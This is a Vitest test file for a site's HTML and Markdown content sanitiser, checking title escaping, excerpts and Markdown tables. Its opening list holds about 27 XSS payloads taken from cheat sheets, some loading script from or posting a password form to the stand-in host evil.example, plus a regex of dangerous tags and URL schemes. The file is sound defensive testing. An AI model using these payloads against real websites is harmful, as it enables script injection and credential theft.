import { describe, expect, it } from 'vitest';
import { markdownToHtml, renderExcerpt, renderTitle, sanitizeContentHtml } from './content-html';

/** Payloads of the usual XSS cheat sheets: none may leave anything that runs. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div onmouseover="alert(1)">x</div>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '"><script>alert(1)</script>',
  '<a href="//evil.example">x</a>',
  '<template><script>alert(1)</script></template>',
];

const dangerous =
  /<script|<style|<iframe|<object|<embed|<svg|<form|<input|<base|<meta|<link|<body|javascript:|vbscript:|data:|\son\w+=|style=|\/\/evil/i;

describe('the content sanitiser', () => {
  it.each(payloads)('strips %s', (payload) => {
    expect(sanitizeContentHtml(payload)).not.toMatch(dangerous);
    // Markdown bodies may hold HTML: the same allow-list applies.
    expect(markdownToHtml(`Testo\n\n${payload}\n\n**fine**`)).not.toMatch(dangerous);
  });

  it('keeps what content needs: headings, paragraphs, lists, links, images, tables, emphasis', () => {
    const html =
      '<h2>Titolo</h2><p>Un <strong>testo</strong> <em>vero</em><br>a capo</p><ul><li>uno</li></ul><ol><li>due</li></ol>' +
      '<p><a href="/page/chi-siamo">Chi siamo</a> <a href="https://example.it" target="_blank">fuori</a> <a href="mailto:info@example.it">mail</a></p>' +
      '<img src="/images/content/buonmercato/x.svg" alt="Frutta"><table><thead><tr><th>Zona</th></tr></thead><tbody><tr><td>Città</td></tr></tbody></table>';
    expect(sanitizeContentHtml(html)).toBe(
      html
        .replace('target="_blank"', 'target="_blank" rel="noopener noreferrer"')
        .replace('<br>', '<br />')
        .replace('alt="Frutta">', 'alt="Frutta" />'),
    );
  });

  it('renders Markdown with tables and keeps its links', () => {
    expect(markdownToHtml('## Costi\n\n| Zona | Costo |\n| --- | --- |\n| Città | 4,90 € |\n\n[Consegna](/page/consegna)')).toBe(
      '<h2>Costi</h2>\n<table>\n<thead>\n<tr>\n<th>Zona</th>\n<th>Costo</th>\n</tr>\n</thead>\n<tbody><tr>\n<td>Città</td>\n<td>4,90 €</td>\n</tr>\n</tbody></table>\n<p><a href="/page/consegna">Consegna</a></p>\n',
    );
  });

  it('titles are escaped, excerpts are WordPress-like', () => {
    expect(renderTitle('Frutta & <b>verdura</b>')).toBe('Frutta &amp; &lt;b&gt;verdura&lt;/b&gt;');
    expect(renderExcerpt('Breve <testo>', '')).toBe('<p>Breve &lt;testo&gt;</p>\n');
    const long = `<p>${Array.from({ length: 60 }, (_, index) => `parola${index}`).join(' ')}</p>`;
    expect(renderExcerpt(undefined, long)).toMatch(/^<p>parola0 .* parola54 \[&hellip;\]<\/p>\n$/);
    expect(renderExcerpt(undefined, '<h2>Breve</h2><p>testo</p>')).toBe('<p>Breve testo</p>\n');
    expect(renderExcerpt(undefined, '')).toBe('');
  });
});
